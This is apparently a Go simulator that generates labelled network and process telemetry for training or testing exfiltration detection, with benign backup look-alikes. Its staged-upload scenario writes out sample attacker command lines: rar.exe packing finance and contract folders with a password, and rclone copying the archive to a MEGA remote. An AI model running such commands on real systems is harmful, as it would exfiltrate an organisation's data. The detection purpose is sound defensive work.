package simulate

import (
	"fmt"

	"netcase"
)

func uploadStories() []storyline {
	return []storyline{
		{name: "upload-night", doc: "a file server sends gigabytes to a rare address at night", hypothesis: Exfiltration, days: 8, formats: sizedFormats, tell: uploadNight},
		{name: "upload-drip", doc: "a desk sends a hundred megabytes an hour to a rare address for a day", hypothesis: Exfiltration, days: 8, formats: sizedFormats, tell: uploadDrip},
		{name: "upload-staged", doc: "files are packed with a password and then sent out, the packing is on record", hypothesis: Exfiltration, days: 8, formats: sizedFormats, processes: true, tell: uploadStaged},
		{name: "backup-cloud", doc: "every night a machine sends its copy to the same address, and this night as well", hypothesis: Misconfigured, days: 8, formats: sizedFormats, tell: backupCloud},
		{name: "backup-packed", doc: "the same, and the files are packed with a password before each copy", hypothesis: Misconfigured, days: 8, formats: sizedFormats, processes: true, tell: backupPacked},
	}
}

// sizedFormats record sizes.
var sizedFormats = []string{formatZeek, formatEVE, formatTraffic60}

func (l *lab) send(at netcase.Time, m *machine, to int, n int64) conn {
	c := conn{at: at, length: netcase.Time(l.between(60, 1500)) * netcase.Second, src: m.addr, dport: 443, result: answered, out: octets(n), in: octets(n / 60)}
	if to >= 0 {
		c.dst = l.sites[to]
	}
	return c
}

// provenWhereRare says that the minimum evidence of a claim is in the telemetry: a rare
// destination is a part of it, and only where the machines of the office call outside as
// well do the inputs show that it is rare.
func (l *lab) provenWhereRare(claim string) {
	if !l.ground.Silent {
		l.labels.Proven = append(l.labels.Proven, claim)
	}
}

// sender is the program that an upload is sent by, where a sensor on the machine sees it.
type sender struct{ image, line string }

func (l *lab) upload(m *machine, hours []int, each int64, by sender) {
	to := l.stranger()
	first := len(l.conns)
	for _, h := range hours {
		for range 3 {
			c := l.send(l.millis(l.at(h, 0), 40*netcase.Minute), m, -1, each/3)
			c.dst, c.image, c.line = to, by.image, by.line
			l.add(c)
		}
	}
	l.label(l.happened(ActUpload, first, true))
	l.labels.Claims, l.labels.Severity = []string{"exfiltration"}, [2]string{sevInfo, sevHigh}
}

func uploadNight(l *lab) { l.upload(l.files, []int{2, 3}, 4_000_000_000, sender{}) }

func uploadDrip(l *lab) {
	var hours []int
	for h := range 20 {
		hours = append(hours, h+2)
	}
	l.upload(l.clients[3], hours, 100_000_000, sender{})
}

func uploadStaged(l *lab) {
	at := l.at(1, 5)
	for _, line := range []string{`rar.exe a -hpSecret -m5 C:\ProgramData\a.rar D:\Finance\*`, `rar.exe a -hpSecret -m5 C:\ProgramData\b.rar D:\Contracts\*`} {
		l.does(&at, l.files, "administrator", act{kind: actStarted, image: `C:\ProgramData\rar.exe`, line: line, parent: shellPath})
	}
	by := sender{`C:\ProgramData\rclone.exe`, `rclone.exe copy C:\ProgramData\a.rar mega:x --transfers 8`}
	l.does(&at, l.files, "administrator", act{kind: actStarted, image: by.image, line: by.line, parent: shellPath})
	l.upload(l.files, []int{2, 3}, 5_000_000_000, by)
	l.labels.Severity = [2]string{sevInfo, sevCritical}
	if l.provenWhereRare("exfiltration"); len(l.labels.Proven) > 0 {
		l.labels.Severity[0] = sevHigh
	}
}

// backupPacked is the look-alike of upload-staged: a job that packs with a password every
// night before it sends.
func backupPacked(l *lab) {
	const program = `C:\Program Files\7-Zip\7z.exe`
	for d := range l.days {
		at := l.start + netcase.Time(d)*netcase.Day + 20*netcase.Minute
		l.does(&at, l.files, "backup", act{kind: actStarted, image: program, line: fmt.Sprintf(`7z.exe a -pX -mhe=on E:\night-%d.7z D:\Data`, d), parent: shellPath})
	}
	backupCloud(l)
}

func backupCloud(l *lab) {
	for d := range l.days {
		for range 4 {
			l.add(l.send(l.millis(l.start+netcase.Time(d)*netcase.Day+netcase.Hour, netcase.Hour), l.files, 3, int64(l.between(450_000_000, 550_000_000))))
		}
	}
	l.labels.Severity = [2]string{sevInfo, sevLow}
}
